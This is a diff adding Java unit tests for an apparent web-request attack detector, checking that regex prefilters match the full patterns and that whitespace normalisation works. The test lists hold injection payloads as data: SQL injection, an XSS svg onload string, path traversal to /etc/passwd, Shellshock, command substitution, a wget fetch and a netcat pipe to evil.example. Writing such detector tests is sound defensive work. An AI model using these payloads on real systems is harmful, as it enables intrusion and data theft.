@@ -2,7 +2,14 @@ package io.perimeter.analyzer.findings;
 
 import static org.assertj.core.api.Assertions.assertThat;
 
+import com.fasterxml.jackson.databind.ObjectMapper;
 import io.perimeter.analyzer.findings.AttackPatterns.Source;
+import java.io.IOException;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.util.ArrayList;
+import java.util.List;
+import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.CsvSource;
 import org.junit.jupiter.params.provider.ValueSource;
@@ -56,5 +63,56 @@ class AttackPatternsTest {
             "sleep well; see you => BODY", "id=5;name=pat => QUERY", "#!/usr/bin/env python => BODY"})
     void everydayValuesAreNotAttacks(String value, Source source) {
         assertThat(AttackPatterns.detect(value, source)).as(value).isEmpty();
+    }
+
+    /**
+     * The prefilters only skip regular expressions that could not match: with and without them, the same rules for
+     * every value of the labelled classification corpus, the payloads and everyday values above, common headers, and
+     * near misses of each prefilter (a separator before another word, an {@code =} without a keyword, Windows in a
+     * User-Agent), in every place a value can come from.
+     */
+    @Test
+    void prefiltersGiveTheAnswersOfThePatternsAlone() throws IOException {
+        List<String> values = new ArrayList<>(List.of(
+                "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0 Safari/537.36",
+                "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36", "shop-ios/7.4.1 CFNetwork/1568 Darwin/24.0",
+                "https://shop.example/cart?step=2&coupon=SPRING", "10.0.0.1, 192.168.1.7", "a=1;b=2", "x; drop", "x;drop table t",
+                "1 ;  --", "1;\n-- x", "1 ;\tselect 1", "a=b or c", "1 and 2=2", "1 or 2=3", "q=x&&y", "echo hi | sort",
+                "a|wget http://x.example/a", "a& curl https://x.example", "x\ncat /etc/hosts", "a;  ls -la;", "a ; id;",
+                "a;idea", "C:/Windows/System32/x", "c:\\windows\\win.ini", "windows 11", "/.env", "a/../b/../c",
+                "x ${ifs} y", "cmd /c dir", "() { :; }; echo", "a{b;c}", "$(whoami)", "sleep;5", "x || ping -c 1 host",
+                "text/html;charset=utf-8", "javascript:void(0)", "o'reilly; drop", "\"a\";\"b\""));
+        values.addAll(List.of("' or 1=1--", "admin'--", "1;--", "1; DROP TABLE users", "1 union/**/select 1",
+                "%27%20OR%201%3D1--", "<svg/onload=alert(1)>", "..%2f..%2fboot.ini", "....//....//etc/passwd",
+                "x;cat /etc/passwd", "127.0.0.1 | id", "a && whoami", "`id`", "x | nc evil.example 4444",
+                "() { :; }; /bin/bash -c 'id'", "a%3Bls -la%3B", "test$(sleep 5)", "cats; catalog; category",
+                "sleep well; see you", "id=5;name=pat", "Tom & Jerry", "x = 1 and y = 2"));
+        ObjectMapper json = new ObjectMapper();
+        for (String line : Files.readAllLines(Path.of("src/test/resources/classification/corpus.jsonl"))) {
+            if (!line.isBlank()) {
+                values.add(json.readTree(line).get("value").asText());
+            }
+        }
+        assertThat(values).hasSizeGreaterThan(1_000);
+        int attacks = 0;
+        for (String value : values) {
+            for (Source source : Source.values()) {
+                String v = source == Source.PATH && !value.startsWith("/") ? "/" + value : value;
+                var reference = AttackPatterns.detect(v, source, false);
+                assertThat(AttackPatterns.detect(v, source, true)).as(source + " " + v).isEqualTo(reference);
+                attacks += reference.isEmpty() ? 0 : 1;
+            }
+        }
+        assertThat(attacks).isGreaterThan(50);
+    }
+
+    /** Lower case with runs of spaces, tabs, carriage returns, vertical tabs and form feeds as one space. */
+    @Test
+    void normalisedValuesHaveTheirWhitespaceRunsCollapsed() {
+        for (String value : List.of("Mozilla/5.0 (Windows NT 10.0; Win64)", "a  b", "a\tb", "a \t\r b", "A\u000bB\fC",
+                "line\nbreak", " lead", "trail  ", "plain", "x\r\ny")) {
+            String expected = value.toLowerCase(java.util.Locale.ROOT).replaceAll("[ \\t\\r\\u000b\\f]+", " ");
+            assertThat(AttackPatterns.normalise(value)).as(value).isEqualTo(expected);
+        }
     }
 }
